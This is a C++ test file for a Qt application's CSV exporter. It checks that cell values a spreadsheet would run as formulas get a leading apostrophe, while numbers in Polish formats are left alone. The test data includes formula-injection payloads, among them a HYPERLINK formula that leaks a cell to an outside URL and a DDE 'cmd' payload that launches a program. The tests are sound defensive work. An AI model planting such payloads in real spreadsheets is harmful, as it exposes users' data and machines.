#include "core/io/CsvWriter.h"

#include "core/io/CsvReader.h"
#include "support/FileBytes.h"
#include "support/QtStringMakers.h"

#include <QTemporaryDir>

using namespace osiedle;
using core::CsvWriter;

TEST_CASE("A text a spreadsheet would run as a formula gets a leading apostrophe; numbers stay numbers",
          "[csv][export]")
{
    const QString link = QStringLiteral("=HYPERLINK(\"http://example.org/?d=\"&D2,\"x\")");
    CHECK(CsvWriter::neutralise(link) == QLatin1Char('\'') + link);
    CHECK(CsvWriter::neutralise(QStringLiteral("+48 601 234 567")) == QStringLiteral("'+48 601 234 567"));
    CHECK(CsvWriter::neutralise(QStringLiteral("@SUM(A1:A9)")) == QStringLiteral("'@SUM(A1:A9)"));
    CHECK(CsvWriter::neutralise(QStringLiteral("-2+3+cmd|' /C calc'!A0")) == QStringLiteral("'-2+3+cmd|' /C calc'!A0"));
    CHECK(CsvWriter::neutralise(QStringLiteral("\tx")) == QStringLiteral("'\tx"));
    CHECK(CsvWriter::neutralise(QStringLiteral("\rx")) == QStringLiteral("'\rx"));
    // numbers (also negative, with a decimal comma and non-breaking thousands) are left alone
    for (const QString& number :
         {QStringLiteral("-12"), QStringLiteral("-12,50"), QStringLiteral("-0.5"), QStringLiteral("-1\u00a0234,56"),
          QStringLiteral("-1 234 567,89"), QStringLiteral("-12,50\u00a0zł"), QStringLiteral("-3,5 %"),
          QStringLiteral("1234"), QStringLiteral("Kowalski"), QString()}) {
        CHECK(CsvWriter::neutralise(number) == number);
    }
    // quoted after neutralising
    CHECK(CsvWriter::quote(link) == QStringLiteral("\"'=HYPERLINK(\"\"http://example.org/?d=\"\"&D2,\"\"x\"\")\""));
}

TEST_CASE("A CSV file with a formula-like name reads back as text", "[csv][export]")
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("lista.csv"));
    CsvWriter writer(path);
    writer.writeRow({QStringLiteral("Nazwisko"), QStringLiteral("Kwota")});
    writer.writeRow({QStringLiteral("=1+1"), QStringLiteral("-12,50")});
    REQUIRE(writer.finish().ok());
    const QByteArray bytes = test::readFile(path);
    CHECK(bytes.contains("'=1+1;-12,50\r\n"));
}
